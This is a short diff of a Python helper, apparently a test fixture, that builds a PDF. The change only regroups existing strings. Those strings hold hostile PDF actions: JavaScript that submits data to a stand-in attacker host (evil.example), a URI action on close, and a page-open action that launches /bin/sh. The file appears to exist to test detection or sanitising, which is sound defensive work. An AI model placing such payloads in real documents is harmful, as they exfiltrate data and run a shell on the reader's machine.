@@ -24,8 +24,10 @@ def _page(head: str = "", body: str = "") -> bytes:
 
 def _pdf() -> bytes:
     objects = (
-        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/p'\\))>>"
-        "/AA<</WC<</S/URI/URI(http://evil.example/aa)>>>>>>",
+        (
+            "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example/p'\\))>>"
+            "/AA<</WC<</S/URI/URI(http://evil.example/aa)>>>>>>"
+        ),
         "<</Type/Pages/Kids[3 0 R]/Count 1>>",
         "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O<</S/Launch/F(/bin/sh)>>>>>>",
     )
